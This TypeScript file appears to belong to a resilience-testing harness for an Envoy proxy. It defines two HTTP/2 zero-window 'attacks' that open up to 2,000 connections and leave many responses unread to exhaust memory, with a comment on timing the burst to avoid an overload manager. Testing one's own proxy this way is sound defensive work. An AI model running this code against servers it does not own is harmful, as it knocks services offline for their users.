/** Responses, large ones and many, that are requested and never read, which must not fill Envoy's memory. */
import type { ClientHttp2Session } from 'node:http2';
import { type Attack, type AttackContext, forEachConnection } from './attack.ts';
import { openSession } from './sockets.ts';

const PAGE = '/docs/swagger-ui-bundle.js';

export const unreadPages: Attack = {
  name: 'unread-pages',
  title: `GET ${PAGE} over HTTP/2 with a window of 0, never read`,
  full: { connections: 40, perConnection: 100 },
  short: { connections: 4, perConnection: 100 },
  holdMs: 15_000,
  run: (context) => requestUnread(context, PAGE),
};

/** As many as fit on the connections: each response holds its whole stream. */
export const unreadRefusals: Attack = {
  name: 'unread-refusals',
  title: 'GET /pets without a key over HTTP/2 with a window of 0, never read',
  full: { connections: 2_000, perConnection: 100 },
  short: { connections: 200, perConnection: 100 },
  holdMs: 15_000,
  run: (context) => requestUnread(context, '/pets'),
};

async function requestUnread({ target, size, tally, signal }: AttackContext, path: string): Promise<void> {
  // All at once, after all connections are open: an overload manager would notice a gradual load.
  const sessions: ClientHttp2Session[] = [];
  await forEachConnection(size, async (index) => {
    const session = await openSession(target, index, { initialWindowSize: 0 }).catch(() => undefined);
    if (session === undefined) return tally.add('refused connection', 0);
    signal.addEventListener('abort', () => session.destroy());
    sessions.push(session);
  });
  for (const session of sessions) {
    for (let count = 0; count < size.perConnection && !session.destroyed; count += 1) {
      const end = tally.start();
      const stream = session.request({ ':path': path });
      stream.on('response', (headers) => end(`${headers[':status']}`)); // the body is never read
      stream.on('error', () => undefined);
      stream.on('close', () => end('closed'));
    }
  }
}
